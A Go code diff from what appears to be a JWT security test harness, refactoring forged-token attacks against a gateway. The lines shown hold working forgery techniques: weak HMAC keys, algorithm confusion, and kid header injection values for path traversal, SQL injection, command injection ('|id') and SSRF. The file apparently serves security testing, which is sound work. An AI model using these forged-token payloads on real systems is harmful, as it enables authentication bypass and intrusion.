@@ -11,10 +11,10 @@ func forged(path string) Request {
 	return Request{Path: path, Header: []Field{bearer("{forged}")}}
 }
 
-func tokenAttack(t *Target, id string, make func(*Secrets) (string, error), advisories ...string) Attack {
+func tokenAttack(t *Target, id string, forge func(*Secrets) (string, error), advisories ...string) Attack {
 	return Attack{
 		ID: "token/" + id, Mechanism: tokenMechanism, Advisories: advisories,
-		Needs: []Control{admitted, guarded}, Request: forged(t.Guarded + "token"), Forge: make, Judge: believed,
+		Needs: []Control{admitted, guarded}, Request: forged(t.Guarded + "token"), Forge: forge, Judge: believed,
 	}
 }
 
@@ -49,7 +49,7 @@ func tokenAttacks(t *Target) []Attack {
 	add("hmac-empty", by(hs256(nil), part{"alg": "HS256"}))
 	add("hmac-secret", by(hs256([]byte("secret")), part{"alg": "HS256"}))
 	add("hmac-appid", func(_ *Secrets, h, c part) (string, error) {
-		return signer(hs256([]byte(fmt.Sprint(c["client_id"])))).token(h.with(part{"alg": "HS256"}).encode(), c.asVictim().encode())
+		return hs256([]byte(fmt.Sprint(c["client_id"]))).token(h.with(part{"alg": "HS256"}).encode(), c.asVictim().encode())
 	})
 	for _, kid := range []string{"../../../../../dev/null", "/dev/null", "file:///dev/null", "' UNION SELECT 'secret'--", "|id", "http://{upstream}" + keysPath, "", strings.Repeat("k", 9<<10)} {
 		add("kid-"+clipID(kid), kidForgery(kid), "RFC 8725 section 3.10")
@@ -84,7 +84,7 @@ func confused(alg, spelled string) forgery {
 	return func(s *Secrets, h, c part) (string, error) {
 		for _, key := range s.Keys {
 			if secret, ok := key.spellings()[spelled]; ok && (key.kid == h["kid"] || h["kid"] == nil) {
-				return signer(hs256(secret)).token(h.with(part{"alg": alg}).encode(), c.asVictim().encode())
+				return hs256(secret).token(h.with(part{"alg": alg}).encode(), c.asVictim().encode())
 			}
 		}
 		return "", fmt.Errorf("%w: the gateway publishes no key that has the spelling %q", errNotApplicable, spelled)
@@ -99,7 +99,7 @@ func kidForgery(kid string) forgery {
 			secret = []byte("secret")
 		}
 		header := h.with(part{"alg": "HS256", "kid": strings.ReplaceAll(kid, "{upstream}", s.echo)})
-		return signer(hs256(secret)).token(header.encode(), c.asVictim().encode())
+		return hs256(secret).token(header.encode(), c.asVictim().encode())
 	}
 }
 
